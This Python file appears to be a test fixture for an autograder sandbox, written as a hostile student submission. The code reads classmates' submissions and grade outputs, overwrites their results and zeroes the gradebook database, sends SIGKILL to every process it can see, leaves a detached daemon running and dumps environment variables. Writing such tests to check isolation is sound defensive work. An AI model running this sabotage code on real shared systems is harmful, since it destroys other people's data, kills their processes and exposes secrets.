"""Attack on a batch: one student's code goes after the rest of the class. It reads the other
submissions and the OUT folder (results, feedback, gradebook.db), tries to overwrite the others'
results and the gradebook, signals every process it can, leaves a daemon behind and finally
raises with everything it found (to see it in its own feedback)."""
import glob
import os
import signal
import sqlite3

CLASS, OUT = "@@CLASS@@", "@@OUT@@"
found, planted = [], []
for pattern in (f"{CLASS}/*/*.py", f"{CLASS}/*.zip", f"{OUT}/*", f"{OUT}/*/*"):
    for path in sorted(glob.glob(pattern)):
        try:
            with open(path, "rb") as f:
                found.append(f"{path}: {f.read(200)!r}")
        except OSError:
            pass
for target in (f"{OUT}/results/good_1.json", f"{OUT}/feedback/good_1.md", f"{OUT}/grades.csv",
               f"{CLASS}/good_2/causal.py"):
    try:
        with open(target, "w") as f:
            f.write('{"score": 0}\n')
        planted.append(target)
    except OSError:
        pass
try:
    db = sqlite3.connect(f"{OUT}/gradebook.db", timeout=1)
    db.execute("UPDATE submissions SET score = 0")
    db.commit()
    planted.append("gradebook.db")
except sqlite3.Error:
    pass
# every process it may see, but not its own process group (kill(0) would end this process before it
# reports; the signal_grader case covers that one)
for pid in [-1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    try:
        os.kill(pid, signal.SIGKILL) if pid != os.getpid() else None
    except OSError:
        pass
if os.fork() == 0:
    os.setsid()
    while True:
        signal.pause()
raise RuntimeError(f"FOUND: {found or 'nothing'}; PLANTED: {planted or 'nothing'}; ENV: {dict(os.environ)}")
